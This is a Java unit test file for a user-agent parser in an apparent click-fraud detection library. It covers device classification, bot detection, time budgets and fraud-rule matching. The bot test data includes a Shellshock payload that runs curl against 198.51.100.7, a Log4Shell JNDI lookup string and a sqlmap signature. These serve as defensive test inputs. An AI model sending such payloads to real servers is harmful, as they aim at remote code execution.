package io.clickledger.spark;

import static io.clickledger.spark.UserAgents.analyse;
import static org.assertj.core.api.Assertions.assertThat;

import io.clickledger.rules.fraud.FraudRules;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class UserAgentsTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          DESKTOP | Windows NT | Chrome  | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36
          PHONE   | iOS        | Safari  | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1
          TABLET  | iOS        | Safari  | Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1
          """)
  void readsDeviceSystemAndBrowser(String type, String os, String browser, String userAgent) {
    assertThat(device(userAgent)).isEqualTo(new Device(type, os, browser));
  }

  @Test
  void recognizesARobot() {
    Device device =
        device("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)");

    assertThat(device.type()).isEqualTo(Device.ROBOT);
  }

  /** Yauaa says Hacker of what it cannot read, and robot of a name or address that looks so. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          OTHER | MAUI WAP Browser
          OTHER | SAMSUNG-SGH-E500
          OTHER | HTC TyTN P4550
          PHONE | HideMe.mobi Browser NokiaN72/5.0819.4.0.1 Series60/2.8 Profile/MIDP-2.0 Configuration/CLDC-1.1
          PHONE | Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36
          PHONE | Mozilla/5.0 (Linux; Android 6.0; B BOT 550 Build/MRA58K; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/53.0.2785.124 Mobile Safari/537.36
          ROBOT | Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)
          ROBOT | DoCoMo/2.0 N905i(c100;TB;W24H16) (compatible; Googlebot-Mobile/2.1; +http://www.google.com/bot.html)
          ROBOT | sqlmap/1.7.8#stable (https://sqlmap.org)
          ROBOT | () { :;}; /bin/bash -c "curl http://198.51.100.7/a"
          ROBOT | ${jndi:ldap://198.51.100.7/a}
          """)
  void saysRobotOnlyOfRobotsAndAttacks(String type, String userAgent) {
    assertThat(device(userAgent).type()).isEqualTo(type);
  }

  @Test
  void saysUnknownWithoutAUserAgentAndTakesAnyText() {
    assertThat(device(null).type()).isEqualTo("UNKNOWN");
    assertThat(device("  ").type()).isEqualTo("UNKNOWN");
    assertThat(device("\u0000(((;;;/")).isNotNull();
  }

  @ParameterizedTest
  @CsvSource({"a/1 (b;, 80", "'a@b.c ', 170", "',', 1020", "a%2F, 256", "a|, 512", "1, 1024"})
  void doesNotAnalyseOneThatIsMadeToCostTime(String part, int times) {
    Device device = device(part.repeat(times));

    assertThat(device).isEqualTo(Device.UNANALYSED);
    assertThat(device.type()).isEqualTo("UNKNOWN");
    assertThat(device.unanalysed()).containsExactly(UnanalysedField.USER_AGENT);
  }

  @Test
  void answersTheSameOnAShortStackAndLater() throws Exception {
    String userAgent = "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0.9";
    // All classes have to be there: one that is first used without stack could never be used again.
    KnownUserAgents.ofPeopleAndRobots().subList(0, 300).forEach(UserAgentsTest::device);
    List<Device> devices = new ArrayList<>();
    Thread task = new Thread(null, () -> devices.add(atTheEndOf(userAgent)), "task", 256 * 1024);
    task.start();
    task.join();

    assertThat(devices).containsExactly(Device.UNANALYSED);
    assertThat(device(userAgent)).isEqualTo(new Device("DESKTOP", "Linux", "Firefox"));
  }

  /** The first answer there is, deepest in the stack first. */
  private static Device atTheEndOf(String userAgent) {
    try {
      return atTheEndOf(userAgent);
    } catch (StackOverflowError e) {
      return device(userAgent);
    }
  }

  @Test
  void forgettingWhatTheParserRemembersChangesNoAnswer() throws Exception {
    List<String> some = KnownUserAgents.ofPeopleAndRobots().subList(0, 300);
    ParserMemory memory = new ParserMemory();

    List<Device> before = some.stream().map(UserAgents::parsed).toList();
    int states = memory.states();
    memory.forget();
    int afterForgetting = memory.states();
    List<Device> after = some.stream().map(UserAgents::parsed).toList();

    assertThat(states).isGreaterThan(1_000);
    assertThat(afterForgetting).isZero();
    assertThat(after).isEqualTo(before);
  }

  @Test
  void analysesNothingNewOnceTheTaskHasSpentItsTime() {
    AtomicLong cpuNanos = new AtomicLong();
    AnalysisBudget budget = new AnalysisBudget(Duration.ofNanos(2), cpuNanos::getAndIncrement);
    String known = "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0";
    String first = known.replace("131", "132");
    String late = known.replace("131", "133");
    device(known);

    device(first, budget);
    device(late.replace("133", "134"), budget);

    assertThat(device(late, budget)).isSameAs(Device.UNANALYSED);
    assertThat(device(known, budget).browser()).isEqualTo("Firefox");
    // The next task has a budget of its own.
    assertThat(device(late).browser()).isEqualTo("Firefox");
  }

  @Test
  void matchesAUserAgentWithTheRulesThatAreGiven() {
    String userAgent = "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0";
    FraudRules linux = rules("Linux");
    FraudRules windows = rules("Windows");

    for (int round = 0; round < 2; round++) {
      assertThat(analyse(userAgent, linux, AnalysisBudget.unlimited()).matched()).isEqualTo(1);
      assertThat(analyse(userAgent, windows, AnalysisBudget.unlimited()).matched()).isZero();
    }
    assertThat(analyse(null, linux, AnalysisBudget.unlimited()).matched()).isZero();
    assertThat(device(userAgent).browser()).isEqualTo("Firefox");
  }

  @Test
  void matchesAlsoWhatIsNotAnalysed() {
    FraudRules rules = rules("b");
    AnalysisBudget spent = new AnalysisBudget(Duration.ZERO, () -> 0);

    for (int round = 0; round < 2; round++) {
      assertThat(analyse("a/1 (b;".repeat(80), rules, AnalysisBudget.unlimited()))
          .isEqualTo(new AnalysedUserAgent(Device.UNANALYSED, 1));
      assertThat(analyse("late b", rules, spent))
          .isEqualTo(new AnalysedUserAgent(Device.UNANALYSED, 1));
    }
    assertThat(analyse("late b", rules, AnalysisBudget.unlimited()).device().unanalysed())
        .isEmpty();
  }

  @Test
  void answersTheSameWhenItHasForgotten() {
    FraudRules rules = rules("00\\\\b");

    for (int round = 0; round < 2; round++) {
      for (int i = 0; i < 100_000; i++) {
        assertThat(analyse("(([{ agent " + i, rules, AnalysisBudget.unlimited()).matched())
            .isEqualTo(i % 100 != 0 || i == 0 ? 0 : 1);
      }
    }
  }

  private static Device device(String userAgent) {
    return device(userAgent, AnalysisBudget.unlimited());
  }

  private static Device device(String userAgent, AnalysisBudget budget) {
    return analyse(userAgent, FraudRules.shipped(), budget).device();
  }

  private static FraudRules rules(String pattern) {
    return FraudRules.parse(
        """
        {"version": "test", "rules": [{"id": "r", "class": "GENERAL_INVALID",
         "type": "user-agent-pattern", "meaning": "test", "patterns": ["%s"]}]}
        """
            .formatted(pattern));
  }
}
